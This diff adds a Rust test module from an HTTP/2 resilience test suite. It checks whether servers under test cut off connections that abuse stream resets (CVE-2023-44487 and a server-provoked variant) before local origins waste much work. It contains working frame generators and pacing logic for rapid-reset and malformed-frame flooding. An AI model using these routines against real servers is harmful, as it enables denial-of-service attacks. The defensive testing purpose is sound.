@@ -1,0 +1,276 @@
+//! Streams that are opened only to be reset, by the client (CVE-2023-44487) or, provoked by it, by the server
+//! (CVE-2025-8671): the connection ends before it costs the origin much.
+
+use std::sync::Arc;
+use std::sync::atomic::{AtomicU64, Ordering};
+use std::thread::sleep;
+use std::time::{Duration, Instant};
+
+use anyhow::Result;
+
+use crate::frames::{self, Connection, END_HEADERS, END_STREAM, frame};
+use crate::origin::Origin;
+use crate::program::Context;
+use crate::report::Report;
+use crate::subject::{ABUSED, Kind, Site, Subject};
+
+/// Resets until GOAWAY or the end of the connection.
+const RESETS: usize = 200;
+/// Requests at the origin that nobody waits for, a connection.
+const CANCELLED: u64 = 100;
+/// Resets that are tried, so that a server that never ends a connection is seen as such.
+const TRIED: usize = 2_000;
+/// An origin takes this long, unless it is told that nobody waits.
+const WORK: Duration = Duration::from_secs(3);
+
+/// What follows the head of a request to have its stream reset.
+type Trigger = fn(u32) -> Vec<u8>;
+
+struct Attack {
+    name: &'static str,
+    trigger: Trigger,
+    pace: Pace,
+}
+
+#[derive(Clone, Copy, PartialEq, Eq)]
+enum Pace {
+    /// Head and trigger in one write, several streams at a time.
+    Burst,
+    /// The trigger once the request is at the origin.
+    Paced,
+    /// As many streams as are allowed, then a trigger for each.
+    Waves,
+}
+
+const WAVE: usize = 100;
+
+const BY_CLIENT: &[Attack] = &[
+    Attack { name: "in bursts", trigger: rst, pace: Pace::Burst },
+    Attack { name: "each once at the origin", trigger: rst, pace: Pace::Paced },
+    Attack { name: "in waves of 100", trigger: rst, pace: Pace::Waves },
+];
+
+const BY_SERVER: &[Attack] = &[
+    Attack { name: "WINDOW_UPDATE of 0", trigger: window_of_zero, pace: Pace::Paced },
+    Attack { name: "WINDOW_UPDATE beyond 2^31", trigger: window_overflow, pace: Pace::Paced },
+    Attack { name: "DATA after the end", trigger: data_after_end, pace: Pace::Paced },
+    Attack { name: "HEADERS after the end", trigger: headers_after_end, pace: Pace::Paced },
+    Attack { name: "PRIORITY of 4 bytes", trigger: short_priority, pace: Pace::Paced },
+    Attack { name: "PRIORITY on itself", trigger: priority_on_itself, pace: Pace::Paced },
+    Attack { name: "WINDOW_UPDATE of 0, in bursts", trigger: window_of_zero, pace: Pace::Burst },
+];
+
+fn rst(stream: u32) -> Vec<u8> {
+    frame(frames::RST_STREAM, 0, stream, &8_u32.to_be_bytes())
+}
+
+fn window_of_zero(stream: u32) -> Vec<u8> {
+    frame(frames::WINDOW_UPDATE, 0, stream, &[0; 4])
+}
+
+fn window_overflow(stream: u32) -> Vec<u8> {
+    frame(frames::WINDOW_UPDATE, 0, stream, &(u32::MAX >> 1).to_be_bytes())
+}
+
+fn data_after_end(stream: u32) -> Vec<u8> {
+    frame(frames::DATA, END_STREAM, stream, b"more")
+}
+
+fn headers_after_end(stream: u32) -> Vec<u8> {
+    let block = frames::block([(&b"x-more"[..], &b"1"[..])]);
+    frame(frames::HEADERS, END_STREAM | END_HEADERS, stream, &block)
+}
+
+fn short_priority(stream: u32) -> Vec<u8> {
+    frame(frames::PRIORITY, 0, stream, &[0; 4])
+}
+
+fn priority_on_itself(stream: u32) -> Vec<u8> {
+    let mut payload = stream.to_be_bytes().to_vec();
+    payload.push(16);
+    frame(frames::PRIORITY, 0, stream, &payload)
+}
+
+pub fn by_client(context: &Context, report: &mut Report) -> Result<()> {
+    run(context, report, BY_CLIENT)
+}
+
+pub fn by_server(context: &Context, report: &mut Report) -> Result<()> {
+    run(context, report, BY_SERVER)
+}
+
+/// What the origin saw.
+#[derive(Default)]
+struct Work {
+    began: AtomicU64,
+    cancelled: AtomicU64,
+    done: AtomicU64,
+}
+
+impl Work {
+    fn running(&self) -> u64 {
+        let began = self.began.load(Ordering::SeqCst);
+        let ended = self.cancelled.load(Ordering::SeqCst) + self.done.load(Ordering::SeqCst);
+        began.saturating_sub(ended)
+    }
+}
+
+fn run(context: &Context, report: &mut Report, attacks: &[Attack]) -> Result<()> {
+    let good = Origin::echo()?;
+    let work = Arc::new(Work::default());
+    let for_origin = Arc::clone(&work);
+    let abused = Origin::start(move |peer| {
+        while let Ok(Some(_)) = peer.request() {
+            for_origin.began.fetch_add(1, Ordering::SeqCst);
+            if peer.closes_within(WORK) {
+                for_origin.cancelled.fetch_add(1, Ordering::SeqCst);
+                return;
+            }
+            for_origin.done.fetch_add(1, Ordering::SeqCst);
+            if peer.answer(b"done").is_err() {
+                return;
+            }
+        }
+    })?;
+    let site = || Site::of_two(good.address, abused.address);
+    context.each_subject(report, Kind::ALL, site, |context, subject, report| {
+        context.with_good_traffic(subject, &good, report, |report| {
+            for attack in attacks {
+                let found = play(context, subject, attack, &work)?;
+                let name = attack.name;
+                let (held, figure) = match found.ended_after {
+                    Some(count) => (count <= RESETS, format!("{count}")),
+                    None => (false, format!("none in {}", found.tried)),
+                };
+                let limit = format!("at most {RESETS}");
+                report.row(
+                    subject.name(),
+                    format!("{name}: resets to the end"),
+                    figure,
+                    limit,
+                    held,
+                );
+                let cancelled = found.cancelled;
+                let case = format!("{name}: cancelled at the origin");
+                let limit = format!("at most {CANCELLED} a connection");
+                report.row(subject.name(), case, cancelled, limit, cancelled <= CANCELLED);
+            }
+            Ok(())
+        })
+    })
+}
+
+struct Found {
+    /// Resets until the connection ended.
+    ended_after: Option<usize>,
+    tried: usize,
+    cancelled: u64,
+}
+
+fn play(context: &Context, subject: &Subject, attack: &Attack, work: &Work) -> Result<Found> {
+    let before = work.cancelled.load(Ordering::SeqCst);
+    let mut streams =
+        Streams { connection: Connection::open(subject.ports.h2c)?, tried: 0, last: None };
+    let end = Instant::now() + context.pick(Duration::from_millis(1_200), Duration::from_secs(5));
+    while streams.tried < TRIED && !streams.has_ended() && Instant::now() < end {
+        match attack.pace {
+            Pace::Burst => streams.burst(attack.trigger),
+            Pace::Paced => streams.paced(attack.trigger, work),
+            Pace::Waves => streams.wave(attack.trigger, work),
+        }
+    }
+    let ended_after = streams.has_ended().then(|| streams.processed());
+    let tried = streams.tried;
+    drop(streams);
+    // The origin hears of the last ones.
+    let end = Instant::now() + Duration::from_secs(1);
+    while work.running() > 0 && Instant::now() < end {
+        sleep(Duration::from_millis(10));
+    }
+    let cancelled = work.cancelled.load(Ordering::SeqCst) - before;
+    Ok(Found { ended_after, tried, cancelled })
+}
+
+/// One connection and the streams that were opened on it.
+struct Streams {
+    connection: Connection,
+    /// Streams with a trigger.
+    tried: usize,
+    /// The last stream that a GOAWAY with an error names.
+    last: Option<u32>,
+}
+
+impl Streams {
+    fn has_ended(&self) -> bool {
+        self.connection.is_closed || self.last.is_some()
+    }
+
+    /// Streams that the server looked at: what was sent after its GOAWAY does not count.
+    fn processed(&self) -> usize {
+        match self.last {
+            Some(last) if last < u32::MAX >> 1 => self.tried.min((last as usize).div_ceil(2)),
+            _ => self.tried,
+        }
+    }
+
+    fn look(&mut self, within: Duration) {
+        for frame in self.connection.drain(within) {
+            if let Some((last, code)) = frame.goaway()
+                && code != 0
+            {
+                self.last = Some(last);
+            }
+        }
+    }
+
+    fn head(stream: u32) -> Vec<u8> {
+        let block = frames::get(ABUSED, "/work");
+        frame(frames::HEADERS, END_STREAM | END_HEADERS, stream, &block)
+    }
+
+    fn id(number: usize) -> u32 {
+        number as u32 * 2 + 1
+    }
+
+    fn burst(&mut self, trigger: Trigger) {
+        let mut bytes = Vec::new();
+        for _ in 0..10 {
+            let id = Self::id(self.tried);
+            bytes.extend(Self::head(id));
+            bytes.extend(trigger(id));
+            self.tried += 1;
+        }
+        self.connection.send(&bytes);
+        self.look(Duration::from_millis(1));
+    }
+
+    fn paced(&mut self, trigger: Trigger, work: &Work) {
+        let id = Self::id(self.tried);
+        let began = work.began.load(Ordering::SeqCst);
+        self.connection.send(&Self::head(id));
+        await_until(Duration::from_millis(20), || work.began.load(Ordering::SeqCst) > began);
+        self.connection.send(&trigger(id));
+        self.tried += 1;
+        self.look(Duration::from_micros(200));
+    }
+
+    fn wave(&mut self, trigger: Trigger, work: &Work) {
+        let ids: Vec<u32> = (self.tried..self.tried + WAVE).map(Self::id).collect();
+        let began = work.began.load(Ordering::SeqCst);
+        let heads: Vec<u8> = ids.iter().flat_map(|id| Self::head(*id)).collect();
+        self.connection.send(&heads);
+        let all = began + WAVE as u64;
+        await_until(Duration::from_millis(200), || work.began.load(Ordering::SeqCst) >= all);
+        let triggers: Vec<u8> = ids.iter().flat_map(|id| trigger(*id)).collect();
+        self.connection.send(&triggers);
+        self.tried += WAVE;
+        self.look(Duration::from_millis(20));
+    }
+}
+
+fn await_until(patience: Duration, is_so: impl Fn() -> bool) {
+    let end = Instant::now() + patience;
+    while !is_so() && Instant::now() < end {
+        sleep(Duration::from_micros(200));
+    }
+}
